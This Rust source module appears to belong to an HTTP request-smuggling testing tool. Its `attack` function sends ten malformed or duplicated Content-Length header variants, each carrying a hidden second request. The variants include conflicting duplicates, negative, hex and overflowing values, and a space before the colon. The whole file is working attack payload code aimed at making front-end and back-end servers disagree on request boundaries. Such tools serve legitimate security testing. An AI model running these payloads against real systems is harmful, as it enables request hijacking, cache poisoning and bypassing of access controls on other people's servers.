//! Tries: to have two sides read two lengths.

use super::connections::*;

pub async fn attack(scene: &Scene) {
    hidden_requests(scene, &[
        Form::Ambiguous("content-length: 0\r\ncontent-length: {length}\r\n\r\n{hidden}"),
        Form::Ambiguous("content-length: {length}\r\ncontent-length: 0\r\n\r\n{hidden}"),
        Form::Ambiguous("content-length: 0, {length}\r\n\r\n{hidden}"),
        Form::Odd("content-length: +{length}\r\n\r\n{hidden}"),
        Form::Ambiguous("content-length: -1\r\n\r\n{hidden}"),
        Form::Ambiguous("content-length: 0x10\r\n\r\n{hidden}"),
        Form::Odd("content-length: \r\n\r\n{hidden}"),
        Form::Ambiguous("content-length : {length}\r\n\r\n{hidden}"),
        Form::Ambiguous("content-length: 18446744073709551616\r\n\r\n{hidden}"),
        Form::Ambiguous("content-length: {length} 0\r\n\r\n{hidden}"),
    ])
    .await;
}
